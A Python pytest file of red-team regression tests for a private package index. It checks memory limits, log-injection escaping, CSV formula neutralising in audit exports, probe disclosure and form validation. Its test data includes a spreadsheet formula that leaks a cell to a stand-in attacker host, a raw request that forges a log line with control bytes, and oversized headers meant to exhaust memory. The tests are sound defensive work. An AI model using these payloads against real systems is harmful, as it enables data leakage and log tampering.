"""Red-team round 2 (issue 24, items 4-7): request input that pinned memory, log lines a
client could forge, audit exports that ran formulas, probes that told strangers too much
or wrote to disk on every call, and form numbers that answered 500."""

from __future__ import annotations

import csv
import io
import socket
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests
from conftest import add_user, app_server, privindex_cli, start_server, wait_until
from helpers import rss_kb
from redteam import PASSWORD
from webclient import WebClient


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A private index; 2FA off so an admin signs in with a password. In-process (conftest's
    AppServer): the rules below are the app's."""
    base = tmp_path_factory.mktemp("round2")
    with app_server(base / "store", base / "data", read_access="token", require_2fa=False) as srv:
        yield srv


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    """The same private index on a live server with a text log, for what waitress lets
    through and what the process keeps in memory."""
    base = tmp_path_factory.mktemp("round2-live")
    srv = start_server(
        base / "store",
        base / "data",
        env={"PRIVINDEX_READ_ACCESS": "token", "PRIVINDEX_REQUIRE_2FA": "false"},
    )
    yield srv
    srv.stop()


def raw_request(server, request: bytes) -> bytes:
    """One request written byte for byte (requests would refuse or re-encode what an
    attacker sends), the whole answer back."""
    host, port = urlsplit(server.url).hostname, urlsplit(server.url).port
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(request)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


# -- 4. caches keyed by what clients send are bounded in bytes ----------------------------------


@pytest.mark.slow  # a thousand requests to a live server
def test_a_thousand_distinct_long_keys_pin_no_memory(live):
    server = live
    token = privindex_cli(
        server, "token", "create", add_or_get(server, "memreader"), "--read-only"
    ).stdout.strip()
    session = requests.Session()
    session.auth = ("__token__", token)

    def attack(i: int, tag: str) -> None:
        name = f"{tag}{i:06d}".ljust(200, "a")  # a valid name at the 200-character limit
        accept = f"application/x-{tag}{i}; q=0.1, " + "text/plain; q=0.1, " * (64 * 1024 // 19)
        agent = f"agent-{tag}{i} " + "b" * 8192
        for path, headers in (
            (f"/simple/{name}/", {"Accept": accept, "User-Agent": agent}),
            (f"/simple/{name}/", {"User-Agent": agent}),
            (f"/packages/{tag}{i}/{'c' * 2000}.whl", {"User-Agent": agent}),
        ):
            resp = session.get(server.url + path, headers=headers, timeout=30)
            assert resp.status_code in (404, 406, 431)  # 406: the code before the Accept limit

    for i in range(100):  # the allocator's pools and every code path warmed up
        attack(i, "warm")
    before = rss_kb(server)
    for i in range(1000):
        attack(i, "key")
    grown_mb = (rss_kb(server) - before) / 1024
    assert grown_mb < 20, f"the server kept {grown_mb:.0f} MB for 1,000 distinct keys"


def test_an_absurd_accept_header_is_refused_and_a_real_one_negotiates(server):
    token = privindex_cli(
        server, "token", "create", add_or_get(server, "accepter"), "--read-only"
    ).stdout.strip()
    resp = requests.get(
        f"{server.url}/simple/",
        auth=("__token__", token),
        timeout=10,
        headers={"Accept": "text/html, " + "x/y; q=0.1, " * 1000},
    )
    assert resp.status_code == 431 and resp.text == "The Accept header is longer than 1024 characters.\n"
    pip_like = (
        "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"
    )
    resp = requests.get(
        f"{server.url}/simple/", auth=("__token__", token), headers={"Accept": pip_like}, timeout=10
    )
    assert resp.status_code == 200 and resp.headers["Content-Type"] == "application/vnd.pypi.simple.v1+json"


# -- 5. a client cannot forge a log line ------------------------------------------------------


def test_control_characters_from_a_client_cannot_forge_log_lines(live):
    server = live  # raw bytes through waitress, into the log the process writes
    forged = b'127.0.0.1 "GET /forged" 200 0.1ms "evil"'
    path = b"/simple/x%0a" + forged.replace(b" ", b"%20").replace(b'"', b"%22") + b"%00%1b%0d/"
    answer = raw_request(
        server,
        b"GET " + path + b" HTTP/1.1\r\nHost: x\r\n"
        b"User-Agent: agent\tred\x85\x9b[31m\r\nX-Request-ID: round2-forge\r\n"
        b"Connection: close\r\n\r\n",
    )  # waitress lets tab and bytes over 0x7f through
    assert answer.startswith(b"HTTP/1.1 401")
    wait_until(lambda: "round2-forge" in server.log(), 10)
    raw = server.log_path.read_bytes()
    assert b"\x00" not in raw and b"\x1b" not in raw and b"\xc2\x85" not in raw and b"\xc2\x9b" not in raw
    lines = [line for line in raw.decode().split("\n") if "forged" in line]
    assert len(lines) == 1, lines  # one request, one line: nothing starts with the forged text
    assert "/simple/x\\n127.0.0.1" in lines[0] and "\\x00\\x1b\\r/" in lines[0] and "\r" not in lines[0]
    assert '"agent\\tred\\x85\\x9b[31m"' in lines[0] and lines[0].endswith("[req round2-forge]")


# -- 6. the audit export is safe to open in a spreadsheet ---------------------------------------


def test_the_audit_csv_export_carries_no_formula(server):
    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
    for agent in (formula, "+1+2", "-3+4", "@SUM(A1)"):  # (a header cannot start with tab or CR)
        resp = requests.post(
            f"{server.url}/legacy/",
            headers={"User-Agent": agent},
            timeout=10,
            data={":action": "file_upload"},
        )
        assert resp.status_code == 401  # refused, and audited with its user agent
    admin = WebClient(server.url)
    add_user(server, "csvadmin", PASSWORD, admin=True)
    admin.login("csvadmin", PASSWORD)
    export = admin.get("/audit/export.csv?tag=upload:refused")
    assert export.status_code == 200
    agents = {row["user_agent"] for row in csv.DictReader(io.StringIO(export.text))}
    assert {f"'{formula}", "'+1+2", "'-3+4", "'@SUM(A1)"} <= agents
    assert not any(a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in agents)
    lines = admin.get("/audit/export.json?tag=upload:refused").text  # JSON lines stay verbatim
    assert '"user_agent": "=HYPERLINK(' in lines


# -- 7. probes tell nothing and cost nothing; numbers in forms are validated --------------------


def test_health_on_a_private_index_tells_strangers_nothing(server):
    anonymous = requests.get(f"{server.url}/health", timeout=10)
    assert (anonymous.status_code, anonymous.json()) == (200, {"status": "ok"})
    token = privindex_cli(
        server, "token", "create", add_or_get(server, "healthreader"), "--read-only"
    ).stdout.strip()
    with_token = requests.get(f"{server.url}/health", auth=("__token__", token), timeout=10).json()
    assert with_token["status"] == "ok" and "version" in with_token and "files" in with_token
    wrong = requests.get(f"{server.url}/health", auth=("__token__", "pidx_" + "x" * 40), timeout=10).json()
    assert wrong == {"status": "ok"}


def test_readiness_writes_at_most_one_probe_a_second(tmp_path):
    quiet = start_server(tmp_path / "store", tmp_path / "data", env={"PRIVINDEX_LOG_LEVEL": "warning"})
    try:
        io_path = Path(f"/proc/{quiet.proc.pid}/io")

        def writes() -> int:  # write(2) and send(2) calls of the server process
            return int(
                next(
                    line.split()[1] for line in io_path.read_text().splitlines() if line.startswith("syscw:")
                )
            )

        session, asked = requests.Session(), 200
        before, started = writes(), time.monotonic()
        for _ in range(asked):
            assert session.get(f"{quiet.url}/readyz", timeout=10).status_code == 200
        seconds = time.monotonic() - started
        probes = writes() - before - asked  # each answer is one send; the rest are probe writes
        assert probes <= seconds + 2, f"{probes} probe writes in {seconds:.1f} s"
    finally:
        quiet.stop()


def test_readiness_names_problems_without_the_reasons(fresh_app):
    srv = fresh_app(populated=False)
    srv.store.rename(srv.store.with_name("away"))
    srv.store.write_text("not a folder")
    wait_until(lambda: requests.get(f"{srv.url}/readyz", timeout=10).status_code == 503, 5)
    resp = requests.get(f"{srv.url}/readyz", timeout=10)
    assert resp.json() == {"status": "unavailable", "problems": ["store not writable"]}
    assert "Not a directory" in srv.log()  # the reason is for the operator


@pytest.mark.parametrize("expires", ["²", "-1", "9" * 400, "NaN", "1e3", "٣", "0", "3651", "1.5"])
def test_a_token_expiry_that_is_not_a_whole_number_of_days_is_a_clear_400(server, expires):
    client = WebClient(server.url)
    client.login(add_or_get(server, "expiry"), PASSWORD)
    page = client.get("/tokens").text
    resp = client.post("/tokens", {"description": f"expires {expires!r}", "expires": expires}, page=page)
    assert resp.status_code == 400, resp.text
    assert "The expiry is a whole number of days from 1 to 3650, or empty for never." in resp.text
    assert f"expires {expires!r}" not in privindex_cli(server, "token", "list", "expiry").stdout


_made: set[str] = set()


def add_or_get(server, name: str) -> str:
    if name not in _made:
        add_user(server, name, PASSWORD)
        _made.add(name)
    return name
